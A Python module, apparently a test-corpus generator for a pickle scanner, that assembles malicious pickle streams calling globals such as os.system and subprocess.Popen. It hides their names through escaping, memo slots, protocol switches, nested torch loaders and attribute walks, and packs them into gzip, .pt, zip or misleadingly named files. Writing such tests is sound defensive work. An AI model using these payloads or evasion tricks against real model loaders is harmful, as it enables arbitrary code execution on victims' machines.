"""Pickles that reach a harmful global in many ways: what calls it, how its name is hidden, how it is cut and packed.

Nothing here is executed: the streams are assembled from opcodes, and `asks` says what an unpickler is to ask
`find_class` for.
"""

from __future__ import annotations

import gzip
import io
import itertools
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

Name = tuple[str, str]

GADGETS: list[Name] = [
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("os", "execv"), ("os", "posix_spawn"),
    ("subprocess", "Popen"), ("subprocess", "check_output"), ("subprocess", "getoutput"), ("pty", "spawn"),
    ("builtins", "eval"), ("builtins", "exec"), ("builtins", "compile"), ("builtins", "__import__"),
    ("builtins", "breakpoint"), ("runpy", "run_path"), ("runpy", "_run_code"), ("importlib", "import_module"),
    ("code", "InteractiveInterpreter"), ("codeop", "compile_command"), ("timeit", "timeit"), ("cProfile", "run"),
    ("pdb", "run"), ("bdb", "Bdb"), ("doctest", "debug_script"), ("trace", "Trace"), ("ctypes", "CDLL"),
    ("multiprocessing.util", "spawnv_passfds"), ("pydoc", "pipepager"), ("webbrowser", "open"), ("shutil", "rmtree"),
    ("builtins", "open"), ("io", "open_code"), ("socket", "create_connection"), ("urllib.request", "urlopen"),
    ("pickle", "loads"), ("_pickle", "loads"), ("marshal", "loads"), ("types", "FunctionType"), ("shelve", "open"),
    ("logging.config", "dictConfig"), ("sqlite3", "connect"), ("zipimport", "zipimporter"), ("tempfile", "mkstemp"),
    ("sys", "settrace"), ("signal", "signal"), ("asyncio", "create_subprocess_shell"), ("copyreg", "add_extension"),
    ("builtins", "setattr"), ("operator", "setitem"),
]  # fmt: skip

HARMLESS: Name = ("collections", "OrderedDict")


@dataclass(frozen=True)
class Variant:
    """A file, and what unpicklers ask for when they load it."""

    label: str
    suffix: str
    data: bytes
    stream: bytes
    asks: Name


def short(text: str) -> bytes:
    """A str of protocol 4."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def binunicode(text: str) -> bytes:
    """A str of protocol 1."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def binunicode8(text: str) -> bytes:
    """A long str of protocol 4."""
    raw = text.encode()
    return b"\x8d" + struct.pack("<Q", len(raw)) + raw


def binstring(text: str) -> bytes:
    """A Python 2 string, with a length of four bytes."""
    return b"T" + struct.pack("<i", len(text)) + text.encode()


def short_binstring(text: str) -> bytes:
    """A Python 2 string, with a length of one byte."""
    return b"U" + bytes([len(text)]) + text.encode()


def quoted(text: str) -> bytes:
    """A Python 2 string of protocol 0 in which every character is escaped."""
    return b"S'" + "".join(f"\\x{ord(character):02x}" for character in text).encode() + b"'\n"


def escaped(text: str) -> bytes:
    """A str of protocol 0 in which every character is escaped."""
    return b"V" + "".join(f"\\u{ord(character):04x}" for character in text).encode() + b"\n"


def stack(write: Callable[[str], bytes]) -> Callable[[Name], bytes]:
    """`STACK_GLOBAL` on two constants."""
    return lambda name: write(name[0]) + write(name[1]) + b"\x93"


def through_memo(name: Name) -> bytes:
    """Both parts are written the wrong way round, and come from the memo."""
    return short(name[1]) + b"q\xf0" + b"0" + short(name[0]) + b"q\xf1" + b"0" + b"h\xf1h\xf0\x93"


def through_text_slots(name: Name) -> bytes:
    """Memo slots in decimal, written in ways that mean the same."""
    return short(name[0]) + b"p0240\n0" + short(name[1]) + b"p241\n0g240\ng0241\n\x93"


def overwritten_slot(name: Name) -> bytes:
    """A slot that held something harmless before."""
    return short("dict") + b"q\xf00" + short(name[1]) + b"q\xf00" + short(name[0]) + b"h\xf0\x93"


def doubled(name: Name) -> bytes:
    """`DUP` and `POP` around the parts."""
    return short(name[0]) + b"20" + short("x") + b"20020" + short(name[1]) + b"200" + short(name[1]) + b"\x93"


def between_marks(name: Name) -> bytes:
    """Other values between the parts, which `POP_MARK` drops."""
    return short(name[0]) + b"(" + short("safe") + b"K\x01" + b"1" + short(name[1]) + b"\x93"


def late_protocol(name: Name) -> bytes:
    """The protocol changes before the global, and back."""
    return b"\x80\x02" + b"\x80\x05" + stack(short)(name) + b"\x80\x04"


def from_memo(name: Name) -> bytes:
    """The global itself comes from the memo."""
    return stack(short)(name) + b"q\xf20h\xf2"


def text(name: Name) -> bytes:
    """`GLOBAL`."""
    return b"c" + name[0].encode() + b"\n" + name[1].encode() + b"\n"


FORMS: dict[str, Callable[[Name], bytes]] = {
    "text": text,
    "short": stack(short),
    "binunicode": stack(binunicode),
    "binunicode8": stack(binunicode8),
    "binstring": stack(binstring),
    "short-binstring": stack(short_binstring),
    "quoted": stack(quoted),
    "escaped": stack(escaped),
    "through-memo": through_memo,
    "text-slots": through_text_slots,
    "overwritten-slot": overwritten_slot,
    "doubled": doubled,
    "between-marks": between_marks,
    "late-protocol": late_protocol,
    "from-memo": from_memo,
}

ARGUMENT = b"\x8c\x02id"
PARTIAL = text(("functools", "partial"))
MAP = text(("builtins", "map"))
BYTES = text(("builtins", "bytes"))
NAMESPACE = text(("argparse", "Namespace"))


def hook(attribute: str, use: bytes) -> Callable[[bytes], bytes]:
    """A state replaces a method of an instance, which is used then."""
    return lambda function: NAMESPACE + b")\x81}" + short(attribute) + function + b"sb" + use


CARRIERS: dict[str, Callable[[bytes], bytes]] = {
    "reduce": lambda function: function + ARGUMENT + b"\x85R",
    "obj": lambda function: b"(" + function + ARGUMENT + b"o",
    "newobj": lambda function: function + ARGUMENT + b"\x85\x81",
    "newobj-ex": lambda function: function + ARGUMENT + b"\x85}\x92",
    "popped": lambda function: function + ARGUMENT + b"\x85R0N",
    "overwritten": lambda function: function + ARGUMENT + b"\x85Rq\xf30Nq\xf30h\xf3",
    "argument": lambda function: text(HARMLESS) + function + ARGUMENT + b"\x85R\x85R",
    "key": lambda function: b"}" + function + ARGUMENT + b"\x85RNs",
    "state": lambda function: NAMESPACE + b")\x81}" + short("a") + function + ARGUMENT + b"\x85Rsb",
    "setter": lambda function: NAMESPACE + b")\x81q\xf4" + function + b"h\xf4" + ARGUMENT + b"\x86R0",
    "partial": lambda function: PARTIAL + function + ARGUMENT + b"\x86R)R",
    "partial-state": lambda function: PARTIAL + text(HARMLESS) + b"\x85R(" + function + b")}Ntb)R",
    "map": lambda function: BYTES + MAP + function + b"]" + ARGUMENT + b"a\x86\x81\x85\x81",
    "newobj-function": lambda function: text(("copyreg", "__newobj__")) + function + ARGUMENT + b"\x86R",
    "reconstructor": lambda function: (
        text(("copyreg", "_reconstructor")) + function + text(("builtins", "object")) + b"N\x87R"
    ),
    "append-hook": hook("append", b"N" + b"a"),
    "setstate-hook": hook("__setstate__", b"}b"),
    "dict-factory": lambda function: text(("collections", "defaultdict")) + function + b"\x85R",
    "class-body": lambda function: (
        text(("builtins", "type")) + short("C") + b")}" + short("append") + function + b"s\x87R"
    ),
    "not-called": lambda function: function,
    "fault-behind": lambda function: function + ARGUMENT + b"\x85R]R",
}

HEADS = [b"\x80\x04", b"\x80\x05", b"\x80\x04\x80\x04"]


def plain(head: bytes, body: bytes) -> bytes:
    """No frames."""
    return head + body + b"."


def framed(head: bytes, body: bytes) -> bytes:
    """One frame around all."""
    return head + b"\x95" + struct.pack("<Q", len(body) + 1) + body + b"."


def tailed(head: bytes, body: bytes) -> bytes:
    """A frame that holds nothing but `STOP`."""
    return head + body + b"\x95" + struct.pack("<Q", 1) + b"."


def cut_short(head: bytes, body: bytes) -> bytes:
    """No `STOP` at all."""
    return head + body


FRAMINGS = [plain, framed, tailed, cut_short]


def raw(stream: bytes) -> tuple[str, bytes]:
    """The stream alone."""
    return ".pkl", stream


def second(stream: bytes) -> tuple[str, bytes]:
    """Behind another pickle."""
    return ".pkl", pickle.dumps([1, 2, 3], 2) + stream


def gzipped(stream: bytes) -> tuple[str, bytes]:
    """In a gzip file."""
    return ".pkl.gz", gzip.compress(stream, mtime=0)


def zipped(stream: bytes) -> tuple[str, bytes]:
    """In an archive, as torch writes it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data.pkl", stream)
    return ".pt", out.getvalue()


def deflated(stream: bytes) -> tuple[str, bytes]:
    """In a compressed archive, under a name that says nothing."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights", stream)
    return ".zip", out.getvalue()


def misnamed(stream: bytes) -> tuple[str, bytes]:
    """Under a name that says something else."""
    return ".bin", stream


CONTAINERS = [raw, second, raw, gzipped, raw, zipped, misnamed, deflated]


def variants(names: list[Name]) -> Iterator[Variant]:
    """Every form with every carrier for every name; framing, heads and containers take turns."""
    turns = itertools.count()
    for name in names:
        for (form, write), (carrier, carry) in itertools.product(FORMS.items(), CARRIERS.items()):
            yield packed(f"{name[0]}.{name[1]} {form} {carrier}", carry(write(name)), name, next(turns))
        yield from special(name, turns)


def packed(label: str, body: bytes, asks: Name, turn: int) -> Variant:
    """A variant with the framing, head and container of its turn."""
    frame = FRAMINGS[turn % len(FRAMINGS)]
    container = CONTAINERS[turn // 5 % len(CONTAINERS)]
    stream = frame(HEADS[turn // 3 % len(HEADS)], body)
    # Without an end a stream is recognised where it stands first.
    if frame is cut_short and container in (second, deflated, misnamed):
        container = raw
    suffix, data = container(stream)
    label = f"{label} {frame.__name__} {container.__name__}"
    return Variant(label, suffix, data, stream, asks)


def special(name: Name, turns: Iterator[int]) -> Iterator[Variant]:
    """What does not go with every form or every carrier."""
    label = f"{name[0]}.{name[1]}"
    inst = b"(" + ARGUMENT + b"i" + name[0].encode() + b"\n" + name[1].encode() + b"\n"
    yield packed(f"{label} inst", inst, name, next(turns))
    old = {"builtins": "__builtin__", "copyreg": "copy_reg", "pickle": "cPickle"}.get(name[0])
    if old:
        for head in (b"", b"\x80\x02", b"\x80\x04\x80\x01"):
            stream = head + text((old, name[1])) + b"(I1\ntR."
            yield Variant(f"{label} python-2 {head.hex()}", ".pkl", stream, stream, (old, name[1]))
    for protocol in range(4):
        head = b"\x80" + bytes([protocol]) if protocol > 1 else b""
        stream = head + text(name) + b"(I1\ntR."
        yield Variant(f"{label} protocol {protocol}", ".pkl", stream, stream, name)
    for inner in (b"\x80\x04" + text(name) + b")R.", text(name) + b"."):
        loader = text(("torch.storage", "_load_from_bytes"))
        stream = b"\x80\x04" + loader + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R."
        yield Variant(f"{label} nested {len(inner)}", ".pkl", stream, stream, ("torch.storage", "_load_from_bytes"))


# Modules, and what they have imported, under the names that it has there.
HELD = [
        ("random", "_os", "os"), ("shutil", "os", "os"), ("tempfile", "_os", "os"), ("glob", "os", "os"),
        ("zipfile", "importlib", "importlib"), ("gzip", "builtins", "builtins"), ("logging", "os", "os"),
        ("uuid", "os", "os"), ("platform", "subprocess", "subprocess"), ("collections", "_sys.modules", "sys.modules"),
        ("site", "builtins", "builtins"), ("inspect", "importlib", "importlib"),
]  # fmt: skip


def walks() -> Iterator[Variant]:
    """Harmful globals that are reached through the attributes of harmless ones."""
    turns = itertools.count()
    ends = {"os": ["system", "popen"], "subprocess": ["Popen"], "builtins": ["eval", "__import__"],
            "importlib": ["import_module"], "sys.modules": ["get"]}  # fmt: skip
    for module, path, real in HELD:
        for end in ends[real]:
            dotted = (module, f"{path}.{end}")
            for (form, write), (carrier, carry) in itertools.product(FORMS.items(), CARRIERS.items()):
                yield packed(f"{module}.{path}.{end} {form} {carrier}", carry(write(dotted)), dotted, next(turns))
            getattr_ = text(("builtins", "getattr")) + text((module, path)) + short(end) + b"\x86R"
            if "." not in path:
                for carrier, carry in CARRIERS.items():
                    label = f"getattr({module}.{path}, {end}) {carrier}"
                    yield packed(label, carry(getattr_), (module, path), next(turns))
    for way_out in ("len.__self__", "print.__self__.eval", "OrderedDict.__init__.__globals__", "int.__subclasses__",
                    "str.__class__.__base__", "dict.fromkeys.__self__.__class__.mro"):  # fmt: skip
        module = "collections" if way_out.startswith("Ordered") else "builtins"
        for form, write in FORMS.items():
            function = write((module, way_out))
            label = f"{module}.{way_out} {form}"
            yield packed(label, function + ARGUMENT + b"\x85R", (module, way_out), next(turns))
    for module in ("os\0", "os\0junk", "runpy\0x"):
        function = {"o": "system", "r": "run_path"}[module[0]]
        for form in ("short", "through-memo", "doubled", "from-memo"):
            name = (module, function)
            yield packed(f"{module!r} {form}", FORMS[form](name) + ARGUMENT + b"\x85R", name, next(turns))
